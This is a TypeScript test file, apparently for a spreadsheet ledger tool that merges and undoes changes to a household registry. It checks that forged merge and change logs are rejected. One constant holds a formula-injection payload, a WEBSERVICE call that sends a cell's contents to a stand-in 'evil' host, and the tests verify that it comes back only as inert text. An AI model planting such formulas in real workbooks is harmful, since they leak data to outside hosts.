import { Failure } from '../../src/core/words/failure';
import { LOCALES } from '../../src/core/words/settings';
import { failureSentence } from '../../src/locales';
import type { Workbook } from '../../src/host';
import { everything, expectSame, ledgerOver, type Opened } from './open-ledger';
import { city, file, households, merged, rowsOf } from './submitted-files';

const SHEET = '贫困户名册';
const LOG = '_zhucun_merges';
const REACHING = '=WEBSERVICE("http://evil/?"&A3)';

type Entry = Readonly<Record<string, unknown>>;

/** A merge log as somebody else would write it. */
function forge(workbook: Workbook, entries: readonly (Entry | string)[]): void {
  const { cells } = workbook.findSheet(LOG) ?? workbook.addSheet(LOG);
  entries.forEach((entry, at) => {
    const text = typeof entry === 'string' ? entry : JSON.stringify(entry);
    const kind = typeof entry === 'string' ? 'merge' : String(entry['kind']);
    [1, kind, text].forEach((cell, column) => {
      cells.set(at + 1, column, cell);
    });
  });
}

function closing(workbook: Workbook, bottoms?: Readonly<Record<string, number>>): Entry {
  const rows = workbook.findSheet(SHEET)?.cells.extent.rows ?? 0;
  const counts = { added: 3, removed: 0, changed: 0 };
  return {
    kind: 'merge',
    at: '2014-01-01',
    files: ['镇.xlsx'],
    ...counts,
    bottoms: bottoms ?? { [SHEET]: rows },
  };
}

async function refused({ ledger, workbook }: Opened): Promise<string> {
  const before = everything(workbook);
  const error: unknown = await ledger.merging.undo().then(
    () => null,
    (reason: unknown) => reason,
  );
  expectSame(everything(workbook), before);
  if (!(error instanceof Failure)) throw new Error(`no failure but ${String(error)}`);
  for (const locale of LOCALES)
    expect(failureSentence(error, locale)).toContain(String(error.params['sheet'] ?? LOG));
  return error.code;
}

const REMOVED = { kind: 'removed', sheet: SHEET, row: 1, column: 0, cells: ['a', 'b'], formats: ['@', '@'] };

describe('a merge log that somebody forged undoes nothing', () => {
  it.each<[string, Entry, string]>([
    ['a sheet that the merge did not name', { kind: 'sheet', sheet: '说明', rows: 1 }, 'MergeMoved'],
    ['a sheet that it would delete', { kind: 'sheet', sheet: SHEET, rows: 9 }, 'MergeMoved'],
    [
      'a sheet that it would delete, with another sum',
      { kind: 'sheet', sheet: SHEET, rows: 9, sources: { file: 0, row: 1, sum: 7 } },
      'MergeMoved',
    ],
    ['rows elsewhere', { ...REMOVED, sheet: '别处' }, 'RecordBeyond'],
    ['a row beyond the sheet', { ...REMOVED, row: 1_000_000 }, 'RecordBeyond'],
    ['a row of no sheet', { ...REMOVED, row: 9e9 }, 'RecordUnreadable'],
    ['cells beyond the sheet', { ...REMOVED, column: 300 }, 'RecordBeyond'],
    ['fewer formats than cells', { ...REMOVED, formats: ['@'] }, 'RecordBeyond'],
    [
      'columns full of data',
      { kind: 'columns', sheet: SHEET, area: { row: 0, column: 0, rows: 1, columns: 5 } },
      'RecordBeyond',
    ],
    [
      'a cell that holds an object',
      { kind: 'cell', sheet: SHEET, row: 2, column: 1, from: { formula: '=1' }, to: 'x', format: '@' },
      'RecordUnreadable',
    ],
    [
      'a total beyond the sheet',
      { kind: 'total', sheet: SHEET, row: 5000, column: 1, formula: '=1' },
      'RecordBeyond',
    ],
    ['nothing that is known', { kind: 'run', sheet: SHEET, command: 'calc' }, 'RecordUnreadable'],
  ])('telling of %s', async (_, entry, code) => {
    const opened = ledgerOver(city());
    forge(opened.workbook, [entry, closing(opened.workbook)]);
    expect(await refused(opened)).toBe(code);
    expect((await opened.ledger.check()).sheets.length).toBeGreaterThan(0);
  });

  it.each(['{', 'null', '[]', '{"kind":"merge"}', '"x"'])('whose last word is %s', async (text) => {
    const opened = ledgerOver(city());
    forge(opened.workbook, [text]);
    expect(await refused(opened)).toBe('RecordUnreadable');
    await expect(opened.ledger.merging.last()).rejects.toMatchObject({ code: 'RecordUnreadable' });
  });

  it('naming sheets that are no registry, and the records themselves', async () => {
    for (const name of ['我的备注', '修改记录', LOG]) {
      const opened = ledgerOver(city());
      const { cells } = opened.workbook.findSheet(name) ?? opened.workbook.addSheet(name);
      cells.set(0, 0, '批次');
      cells.set(1, 0, '一句话');
      const rows = name === LOG ? 3 : 2;
      const cell = { kind: 'cell', sheet: name, row: 2, column: 0, from: 'x', to: '一句话', format: '@' };
      forge(opened.workbook, [cell, closing(opened.workbook, { [name]: rows })]);
      expect(await refused(opened)).toBe('RecordBeyond');
    }
  });
});

it('rows come back with their own formulas, and one that reaches out of the workbook as its text', async () => {
  const opened = ledgerOver(city());
  const { workbook } = opened;
  const width = workbook.findSheet(SHEET)?.cells.extent.columns ?? 0;
  const before = rowsOf(workbook).length;
  const cells = Array.from({ length: width }, (_, at) =>
    at === 1 ? { formula: REACHING } : at === 2 ? { formula: '=1+1' } : '旧',
  );
  const formats = cells.map(() => ';;;');
  forge(workbook, [{ kind: 'removed', sheet: SHEET, row: 2, column: 0, cells, formats }, closing(workbook)]);
  await opened.ledger.merging.undo();
  const sheet = workbook.findSheet(SHEET);
  expect(rowsOf(workbook)).toHaveLength(before + 1);
  expect(sheet?.cells.formula(2, 1) ?? null).toBeNull();
  expect(sheet?.cells.get(2, 1)).toBe(REACHING);
  expect(sheet?.cells.formula(2, 2)).toBe('=1+1');
  expect(workbook.styles.get(sheet?.cells.style(2, 0) ?? 0).numFmt).not.toBe(';;;');
  expect(rowsOf(workbook, '修改记录').at(-1)?.slice(2, 7)).toEqual([SHEET, 'B3', null, null, REACHING]);
});

it('columns that a merge added stay where somebody has written in them since', async () => {
  const opened = ledgerOver(city());
  await merged(opened, [await file('镇3.xlsx', households(3, 2))]);
  const sheet = opened.workbook.findSheet(SHEET);
  const column = (sheet?.cells.extent.columns ?? 0) - 1;
  sheet?.cells.set(3, column, '手工补记');
  await opened.ledger.merging.undo();
  expect(sheet?.cells.get(3, column)).toBe('手工补记');
});

describe('a change log that somebody forged undoes nothing', () => {
  const CHANGES = '_zhucun_changes';

  function forgeChange(workbook: Workbook, line: readonly (string | number)[]): void {
    const { cells } = workbook.findSheet(CHANGES) ?? workbook.addSheet(CHANGES);
    line.forEach((cell, column) => {
      cells.set(1, column, cell);
    });
  }

  it.each<[string, readonly (string | number)[], string]>([
    ['an object', [1, SHEET, 3, 0, '{"formula":"=1"}', '"x"', '@', 0], 'RecordUnreadable'],
    ['no JSON', [1, SHEET, 3, 0, '=1', 'x', '@', 0], 'RecordUnreadable'],
    ['a row of no sheet', [1, SHEET, -3, 0, '"y"', '"x"', '@', 0], 'RecordUnreadable'],
    ['a column of no sheet', [1, SHEET, 3, 99_999, '"y"', '"x"', '@', 0], 'RecordUnreadable'],
    ['its own sheet', [1, CHANGES, 2, 1, '"y"', `"${CHANGES}"`, '@', 0], 'RecordBeyond'],
    ['a sheet of notes', [1, '说明', 1, 0, '"y"', '"市里的说明"', '@', 0], 'RecordBeyond'],
  ])('telling of %s', async (_, line, code) => {
    const opened = ledgerOver(city());
    forgeChange(opened.workbook, line);
    const before = everything(opened.workbook);
    await expect(opened.ledger.undoLastBatch()).rejects.toMatchObject({ code });
    expectSame(everything(opened.workbook), before);
    expect(await merged(opened, [await file('镇3.xlsx', households(3, 2))])).toMatchObject({ added: 2 });
  });

  it('but what is a text stays a text, whatever it begins with', async () => {
    const opened = ledgerOver(city());
    const sheet = opened.workbook.findSheet(SHEET);
    const held = rowsOf(opened.workbook)[2]?.[3];
    forgeChange(opened.workbook, [1, SHEET, 3, 3, JSON.stringify(REACHING), JSON.stringify(held), ';;;', 0]);
    expect(await opened.ledger.undoLastBatch()).toMatchObject({ changed: 1, left: 0 });
    expect(sheet?.cells.formula(2, 3) ?? null).toBeNull();
    expect(sheet?.cells.get(2, 3)).toBe(REACHING);
    expect(opened.workbook.styles.get(sheet?.cells.style(2, 3) ?? 0).numFmt).not.toBe(';;;');
  });
});
